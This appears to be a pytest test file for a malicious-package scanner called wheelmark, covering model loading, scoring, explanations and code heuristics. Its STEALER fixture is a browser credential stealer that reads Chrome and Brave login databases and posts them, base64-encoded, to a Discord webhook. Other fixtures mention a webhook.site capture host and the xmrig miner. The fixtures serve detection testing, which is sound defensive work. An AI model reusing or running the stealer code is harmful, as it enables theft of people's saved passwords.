"""The model: read strictly, evaluated exactly, told in words, and not to be diluted."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

import pytest

from support.scan import scan_import, scan_wheel, the_ruleset
from wheelmark.scan import Finding, Report, Severity, Verdict
from wheelmark.scan.circumstances import circumstances_of
from wheelmark.scan.feature_words import describe
from wheelmark.scan.features import Features
from wheelmark.scan.model import MAX_MODEL_BYTES, SHIPPED, Model, load_model, shipped_model
from wheelmark.scan.reasons import reasons_for
from wheelmark.scan.signals import signal_words
from wheelmark.scan.statistics import entropy, statistics_of
from wheelmark.scan.verdict import decisive

EXAMPLES = Path(__file__).parent.parent.parent / "data" / "model-examples.json"
DOCUMENT = {
    "format": 1,
    "features": ["act/a/import", "act/b/import"],
    "trees": [[0, 0, -2_000_000, [1, 0, 1_000_000, 3_000_000]], [1, 2, 0, 500_000]],
    "calibration": [[-4_000_000, 0], [0, 5000], [4_000_000, 10_000]],
    "suspicious": 0.6,
    "malicious": 0.8,
    "rules": {"a-rule": 1},
    "imprecise": [],
}


def a_model(tmp_path: Path, **changes: object) -> Model:
    path = tmp_path / "model.json"
    path.write_text(json.dumps({**DOCUMENT, **changes}))
    return load_model(path)


@pytest.mark.parametrize(
    ("values", "margin", "score"),
    [
        ({}, -2_000_000, 0.25),
        ({"act/a/import": 1}, 1_000_000, 0.625),
        ({"act/a/import": 1, "act/b/import": 2}, 3_000_000, 0.875),
        ({"act/a/import": 1, "act/b/import": 3, "unknown": 9}, 3_500_000, 0.9375),
    ],
)
def test_trees_are_summed_exactly(tmp_path: Path, values: dict[str, int], margin: int, score: float) -> None:
    model = a_model(tmp_path)
    assert model.margin(model.vector(values)) == margin
    assert model.score(margin) == score


def test_score_beyond_the_table_is_that_of_its_end(tmp_path: Path) -> None:
    model = a_model(tmp_path)
    assert (model.score(-(10**12)), model.score(10**12)) == (0, 1)


@pytest.mark.parametrize(
    "changes",
    [
        {"format": 2},
        {"features": ["a", "a"]},
        {"trees": [[2, 0, 1, 1]]},
        {"trees": [[0, 0, 1]]},
        {"trees": [1.5]},
        {"calibration": []},
        {"calibration": [[1, 2], [1, 3]]},
        {"calibration": [[1, 3], [2, 2]]},
        {"calibration": [[1, 3], [2, 20_000]]},
        {"suspicious": 0.9},
        {"suspicious": 0},
        {"imprecise": ["unheard-of"]},
        {"rules": {"a-rule": "1"}},
    ],
)
def test_file_that_is_no_model_is_refused(tmp_path: Path, changes: dict[str, object]) -> None:
    with pytest.raises(RuntimeError, match="expected a model"):
        a_model(tmp_path, **changes)


def test_version_of_a_model_is_its_bytes(tmp_path: Path) -> None:
    assert a_model(tmp_path).version != a_model(tmp_path, suspicious=0.61).version


def test_evaluator_agrees_with_what_the_learner_said_at_training_time() -> None:
    model = shipped_model()
    examples = json.loads(EXAMPLES.read_text())
    assert len(examples) >= 30
    assert len({example["logit"] for example in examples}) > 10
    for example in examples:
        margin = model.margin(model.vector(example["values"]))
        assert margin / 1_000_000 == pytest.approx(example["logit"], abs=0.001)


def test_shipped_model_is_small_and_knows_rules_that_exist() -> None:
    assert SHIPPED.stat().st_size <= MAX_MODEL_BYTES
    model = shipped_model()
    assert 0 < model.suspicious < model.malicious < 1
    assert set(model.rules) <= {rule.id for rule in the_ruleset().rules}


def test_each_feature_of_the_shipped_model_is_told_in_words() -> None:
    rules = {rule.id: rule for rule in the_ruleset().rules}
    untold = [name for name in shipped_model().features if describe(name, 1, rules) == name]
    assert untold == []


def test_feature_that_this_version_does_not_know_is_told_by_its_name() -> None:
    assert describe("signal/of-the-future/import", 1, {}) == "signal/of-the-future/import"
    assert describe("future", 1, {}) == "future"


def test_reasons_name_the_smallest_set_that_turns_the_verdict(tmp_path: Path) -> None:
    model = a_model(tmp_path)
    features = Features()
    features.note("m.py", "act/a/import", 1, 7)
    features.note("m.py", "act/b/import", 3, 9)
    reasons = reasons_for(model, features, "m.py", model.malicious, {})
    assert [(reason.member, reason.line, reason.needed) for reason in reasons] == [
        ("m.py", 7, True),
        ("m.py", 9, False),
    ]
    assert sum(reason.effect for reason in reasons) == pytest.approx(1, abs=0.01)


def test_worst_member_is_weighed_and_not_the_sum_of_all(tmp_path: Path) -> None:
    model = a_model(tmp_path)
    features = Features()
    features.note("a.py", "act/a/import", 1)
    features.note("b.py", "act/b/import", 3)
    assert model.worst(features.cases) == ("a.py", 1_000_000)


STEALER = (
    "import os, json, base64, urllib.request\n"
    "from urllib.request import Request\n"
    "def collect():\n"
    "    found = {}\n"
    "    for place in ('Google/Chrome/User Data/Default', 'BraveSoftware/Brave-Browser/User Data/Default'):\n"
    "        try:\n"
    "            found[place] = open(os.path.join(os.environ['LOCALAPPDATA'], place, 'Login Data'), 'rb').read()\n"
    "        except: pass\n"
    "    return found\n"
    "def deliver(found):\n"
    "    body = json.dumps({'content': base64.b64encode(repr(found).encode()).decode()}).encode()\n"
    "    urllib.request.urlopen(Request('https://discord.com/api/webhooks/0/imitation', data=body))\n"
    "deliver(collect())\n"
)
QUIET = '"""Adds numbers."""\n\n\ndef add(one: int, other: int) -> int:\n    """The sum."""\n    return one + other\n'


def test_harmless_files_beside_a_payload_change_no_verdict() -> None:
    alone = scan_wheel({"widget/__init__.py": STEALER})
    beside = scan_wheel({"widget/__init__.py": STEALER, **{f"widget/m{number}.py": QUIET for number in range(200)}})
    assert alone.verdict is beside.verdict is Verdict.MALICIOUS


def test_quiet_distribution_is_benign_without_asking_the_model() -> None:
    report = scan_import(QUIET)
    assert (report.verdict, report.score, report.reasons) == (Verdict.BENIGN, 0.0, ())
    assert report.model == shipped_model().version


def test_report_says_why_and_what_would_have_changed_it() -> None:
    report = scan_import(STEALER)
    assert report.verdict is Verdict.MALICIOUS
    assert report.reasons
    assert all(reason.what and 0 <= reason.effect <= 1 for reason in report.reasons)
    assert {reason.member for reason in report.reasons} <= {"", "widget/__init__.py"}
    assert Report.from_json(report.to_json(with_context=True)) == report


def test_verdict_that_no_rule_gives_is_a_finding_of_its_own() -> None:
    model = replace(
        shipped_model(),
        features=("act/start a process/import",),
        trees=((0, 0, -9_000_000, 9_000_000),),
        calibration=((-9_000_000, 0), (9_000_000, 9999)),
    )
    import io

    from support.scan import a_wheel
    from wheelmark.scan import RuleSet, ScanBounds, scan_stream
    from wheelmark.scan.samples import WHEEL_NAME

    ruleset = RuleSet(the_ruleset().rules, model)
    raw = a_wheel({"widget/__init__.py": "import os\nos.system('echo imitation')\n"})
    report = scan_stream(io.BytesIO(raw), filename=WHEEL_NAME, ruleset=ruleset, bounds=ScanBounds())
    first = report.findings[0]
    assert (first.rule, first.severity, first.member, first.line) == (
        "taken-together",
        Severity.CRITICAL,
        "widget/__init__.py",
        2,
    )
    assert "start a process" in first.evidence
    assert report.verdict is Verdict.MALICIOUS


def test_decisive_findings_are_critical_and_of_precise_rules() -> None:
    model = replace(shipped_model(), rules={"loud": 1}, imprecise=frozenset({"loud"}))

    def finding(rule: str, severity: Severity) -> Finding:
        return Finding(rule=rule, severity=severity, member="m.py", line=1, message="m", evidence="e")

    found = [finding("loud", Severity.CRITICAL), finding("other", Severity.HIGH), finding("other", Severity.CRITICAL)]
    assert decisive(found, model) == [found[2]]


def test_signal_says_where_its_words_stand_and_when_they_run() -> None:
    import io

    from support.scan import a_wheel
    from wheelmark.scan import ScanBounds, examine
    from wheelmark.scan.samples import WHEEL_NAME

    source = "import os\nHOST = 'https://webhook.site/imitation'\ndef f():\n    return 'xmrig'\n"
    seen = examine(
        io.BytesIO(a_wheel({"widget/__init__.py": source})),
        filename=WHEEL_NAME,
        ruleset=the_ruleset(),
        bounds=ScanBounds(),
    )
    shown = seen.features.members["widget/__init__.py"]
    assert shown["signal/capture-host/import"].line == 2
    assert shown["signal/miner/asked"].line == 4
    assert "signal/miner/import" not in shown


def test_each_signal_is_a_clause() -> None:
    assert len(signal_words()) >= 28
    assert all(says and not says.endswith(".") and says[0].islower() for says in signal_words().values())


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("x = '" + "aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgdGV4dCB0aGF0IGhhcyBubyBvcmRlcg" * 3 + "'", "text/literal"),
        ("x = 1 " * 100, "text/line"),
        ("x = '" + "\\x41" * 40 + "'", "text/escapes"),
        ("x = [" + "104, " * 60 + "]", "text/numbers"),
        ("\n".join(f"_0x{number:06x}qzx = {number}" for number in range(300, 340)), "text/odd-names"),
        ("try:\n    x()\nexcept:\n    pass\n", "text/silenced"),
        ("import os; x = 1; y = 2", "text/semicolons"),
        ("print(1)\nos.system('x')\n", "text/at-once"),
        ("def f() -> int:\n    return 1\n", "style/hints"),
    ],
)
def test_statistic_shows_what_it_is_about(source: str, name: str) -> None:
    assert dict(statistics_of(source.encode())).get(name, 0) > 0
    assert name not in dict(statistics_of(b"x = 1\n"))


def test_entropy_orders_texts() -> None:
    assert entropy(b"") == entropy(b"aaaa") == 0
    assert entropy(b"ab" * 10) == 10
    assert entropy(bytes(range(256))) == 80


def test_circumstances_are_those_of_the_metadata_nearest_to_the_top() -> None:
    told = (
        b"Metadata-Version: 2.1\nName: widget\nVersion: 99.9\nSummary: Adds numbers for people\n"
        b"Home-page: https://widget.example.invalid\nAuthor: A\nClassifier: X\nLicense: MIT\n\n" + b"Words. " * 60
    )
    sides = {"widget-1/PKG-INFO": told, "widget-1/src/widget.egg-info/PKG-INFO": b"Name: widget\n\n"}
    names = dict(circumstances_of("widget-1.tar.gz", ["widget-1/setup.py", "widget-1/README.md"], sides))
    assert "odd-version" in names
    assert not {"no-address", "no-author", "no-summary", "no-description", "no-readme"} & set(names)
    sides = {"widget-1/PKG-INFO": b"Metadata-Version: 2.1\nName: widget\n\n"}
    silent = dict(circumstances_of("widget-1.tar.gz", ["widget-1/setup.py"], sides))
    assert {"no-address", "no-author", "no-summary", "no-description", "no-readme"} <= set(silent)


def test_date_is_no_odd_version() -> None:
    def odd(version: str) -> bool:
        raw = f"Name: w\nVersion: {version}\n\n".encode()
        return "odd-version" in dict(circumstances_of("w.tar.gz", [], {"w/PKG-INFO": raw}))

    assert [odd(each) for each in ("1.2.3", "2024.1", "24.1.0", "0.0.1", "99.0.0", "1.999.0")] == [
        *[False] * 4,
        *[True] * 2,
    ]
